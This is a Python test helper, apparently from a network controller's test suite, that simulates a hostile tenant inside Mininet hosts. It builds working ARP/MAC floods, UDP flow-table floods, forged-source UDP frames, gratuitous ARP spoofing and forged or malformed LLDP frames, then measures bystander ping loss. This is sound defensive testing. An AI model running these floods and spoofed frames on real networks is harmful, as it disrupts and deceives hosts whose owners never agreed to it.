"""What a hostile tenant sends, for tests and bench/hostile.py.

Run inside a Mininet host (stdlib only, paced with sleeps; every loop ends by itself):

  python3 attack.py send IFACE HEX...          raw frames, once each
  python3 attack.py macflood IFACE COUNT RATE  ARP from random source MACs
  python3 attack.py flowflood DST_IP[,DST_IP...] SECONDS RATE [TOS]
                                               one datagram per new UDP 5-tuple
  python3 attack.py spoofflood IFACE SRC_MAC DST_MAC DST_IP SECONDS RATE TOS
                                               the same from forged source addresses
  python3 attack.py udp DST_IP PORT SECONDS MBPS TOS  paced UDP at one port

From the test process: :func:`run` starts it in a host, :func:`start_ping` and
:func:`ping_result` measure the bystanders.
"""

from __future__ import annotations

import os
import random
import re
import signal
import socket
import struct
import sys
import time
from dataclasses import dataclass


def _pace(i: int, start: float, rate: float) -> None:
    due = start + i / rate
    delay = due - time.monotonic()
    if delay > 0:
        time.sleep(delay)


def send(iface: str, frames: list[str]) -> int:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    for hexframe in frames:
        s.send(bytes.fromhex(hexframe))
    print(f"sent {len(frames)}")
    return 0


def macflood(iface: str, count: int, rate: float) -> int:
    """ARP requests from random locally administered MACs and random 10.200/16 senders."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    start = time.monotonic()
    for i in range(count):
        mac = bytes([0x02]) + os.urandom(5)
        sender = bytes([10, 200]) + os.urandom(2)
        arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + mac + sender + bytes(6) + \
            bytes([10, 0, 0, 254])
        frame = b"\xff" * 6 + mac + b"\x08\x06" + arp
        s.send(frame.ljust(60, b"\0"))
        _pace(i, start, rate)
    print(f"sent {count} in {time.monotonic() - start:.1f} s")
    return 0


def flowflood(dsts: list[str], seconds: float, rate: float, tos: int = 0) -> int:
    """One datagram per new 5-tuple (a fresh source socket port and destination port),
    to the destinations in turn, marked ``tos``."""
    socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(64)]
    for sock in socks:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, tos)
    start = time.monotonic()
    i = 0
    while time.monotonic() - start < seconds:
        sock = socks[i % len(socks)]
        try:
            sock.sendto(b"x" * 32, (dsts[i % len(dsts)], 20000 + random.randrange(40000)))
        except OSError:
            pass
        i += 1
        _pace(i, start, rate)
    print(f"sent {i} in {time.monotonic() - start:.1f} s")
    return 0


def spoofflood(iface: str, src_mac: str, dst_mac: str, dst_ip: str, seconds: float,
               rate: float, tos: int) -> int:
    """New UDP flows from the host's own MAC but random 10.77/16 source addresses."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    start = time.monotonic()
    i = 0
    while time.monotonic() - start < seconds:
        src_ip = f"10.77.{random.randrange(256)}.{random.randrange(1, 255)}"
        s.send(forged_udp(src_mac, dst_mac, src_ip, dst_ip, random.randrange(1024, 65535),
                          20000 + random.randrange(40000), tos))
        i += 1
        _pace(i, start, rate)
    print(f"sent {i} in {time.monotonic() - start:.1f} s")
    return 0


def udp(dst: str, port: int, seconds: float, mbps: float, tos: int) -> int:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, tos)
    payload = b"\0" * 1000
    rate = mbps * 1e6 / 8 / (len(payload) + 28)
    start = time.monotonic()
    i = 0
    while time.monotonic() - start < seconds:
        try:
            s.sendto(payload, (dst, port))
        except OSError:
            pass
        i += 1
        _pace(i, start, rate)
    print(f"sent {i}")
    return 0


# --- used from the test process -------------------------------------------------------
@dataclass(frozen=True)
class PingResult:
    sent: int
    received: int
    rtts_ms: tuple[float, ...]

    @property
    def loss(self) -> float:
        return 1 - self.received / self.sent if self.sent else 1.0


def run(host, *args: str, wait: bool = True, timeout: float = 120):
    """Run this script in Mininet host ``host``; its output, or the process if not
    ``wait``."""
    import subprocess

    proc = host.popen([sys.executable, os.path.abspath(__file__), *args],
                      stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    if not wait:
        return proc
    out, _ = proc.communicate(timeout=timeout)
    if proc.returncode != 0:
        raise RuntimeError(f"attack {args[0]} failed: {out}")
    return out


def lldp_with_chassis(chassis: bytes) -> bytes:
    """An LLDP frame in aifabric's format (its organisational TLV, signed with a guessed
    key) whose chassis ID TLV holds ``chassis``."""
    from controller.core.fabric.frames import build_ethernet, build_lldp, parse_ethernet

    genuine = parse_ethernet(build_lldp(1001, 3, b"x" * 32, time.time())).payload
    org = genuine[genuine.index(b"\x02\xaf\x00") - 2:]
    tlv = ((1 << 9) | len(chassis)).to_bytes(2, "big") + chassis
    return build_ethernet("01:80:c2:00:00:0e", "02:00:00:00:00:66", 0x88CC, tlv + org)


def malformed_lldp() -> list[bytes]:
    """LLDP frames whose chassis ID, lengths or TLVs are out of range."""
    from controller.core.fabric.frames import build_ethernet

    frames = [lldp_with_chassis(b"\x07" + c) for c in (
        b"dpid:-1", b"dpid:+1", b"dpid:" + b"f" * 40, b"dpid:\xff", b"")]
    return frames + [frames[0][:20], build_ethernet("01:80:c2:00:00:0e", "02:00:00:00:00:66",
                                                    0x88CC, b"\xfe\x00" * 300)]


def gratuitous_arp(mac: str, ip: str) -> list[bytes]:
    """Gratuitous ARP claiming ``ip`` for ``mac``, in request and reply form."""
    raw_mac = bytes.fromhex(mac.replace(":", ""))
    raw_ip = bytes(int(x) for x in ip.split("."))
    frames = []
    for op in (1, 2):
        arp = (b"\x00\x01\x08\x00\x06\x04" + op.to_bytes(2, "big") + raw_mac + raw_ip
               + (b"\xff" * 6 if op == 2 else bytes(6)) + raw_ip)
        frames.append((b"\xff" * 6 + raw_mac + b"\x08\x06" + arp).ljust(60, b"\0"))
    return frames


def forged_udp(src_mac: str, dst_mac: str, src_ip: str, dst_ip: str, sport: int,
               dport: int, tos: int = 0, payload: bytes = b"x" * 32) -> bytes:
    """An Ethernet/IPv4/UDP frame with whatever source address the sender claims (UDP
    checksum left out, as IPv4 allows)."""
    udp_len = 8 + len(payload)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, tos, 20 + udp_len, 0, 0, 64, 17, 0,
                         socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
    total = sum(struct.unpack("!10H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    header = header[:10] + struct.pack("!H", ~total & 0xFFFF) + header[12:]
    udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + payload
    macs = bytes.fromhex(dst_mac.replace(":", "") + src_mac.replace(":", ""))
    return (macs + b"\x08\x00" + header + udp).ljust(60, b"\0")


def start_ping(src, dst_ip: str, seconds: float, interval: float = 0.01):
    """A ping of ``seconds`` at ``interval`` from ``src``; collect with ping_result."""
    import subprocess

    return src.popen(["ping", "-n", "-i", str(interval), "-W", "1",
                      "-c", str(int(seconds / interval)), dst_ip],
                     stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)


def ping_result(proc, timeout: float = 120) -> PingResult:
    """The result of a ping started by :func:`start_ping`, once it has ended."""
    out, _ = proc.communicate(timeout=timeout)
    return _ping_summary(out)


def stop_ping(proc, timeout: float = 10) -> PingResult:
    """Stop a ping started by :func:`start_ping` now (SIGINT, as ^C would) and return its
    result. The last echo, if its reply had not come yet, was in flight as ping stopped:
    it is not counted as sent."""
    if proc.poll() is None:
        proc.send_signal(signal.SIGINT)
    out, _ = proc.communicate(timeout=timeout)
    res = _ping_summary(out)
    answered = {int(x) for x in re.findall(r"bytes from .*icmp_seq=(\d+)", out)}
    if res.sent and res.sent not in answered:
        return PingResult(res.sent - 1, res.received, res.rtts_ms)
    return res


def _ping_summary(out: str) -> PingResult:
    m = re.search(r"(\d+) packets transmitted, (\d+) received", out)
    if m is None:
        raise RuntimeError(f"no ping summary in: {out[-500:]}")
    rtts = tuple(float(x) for x in re.findall(r"time=([\d.]+) ms", out))
    return PingResult(int(m.group(1)), int(m.group(2)), rtts)


def main(argv: list[str]) -> int:
    cmd, args = argv[0], argv[1:]
    if cmd == "send":
        return send(args[0], args[1:])
    if cmd == "macflood":
        return macflood(args[0], int(args[1]), float(args[2]))
    if cmd == "flowflood":
        return flowflood(args[0].split(","), float(args[1]), float(args[2]),
                         int(args[3]) if len(args) > 3 else 0)
    if cmd == "spoofflood":
        return spoofflood(args[0], args[1], args[2], args[3], float(args[4]),
                          float(args[5]), int(args[6]))
    if cmd == "udp":
        return udp(args[0], int(args[1]), float(args[2]), float(args[3]), int(args[4]))
    print(__doc__, file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
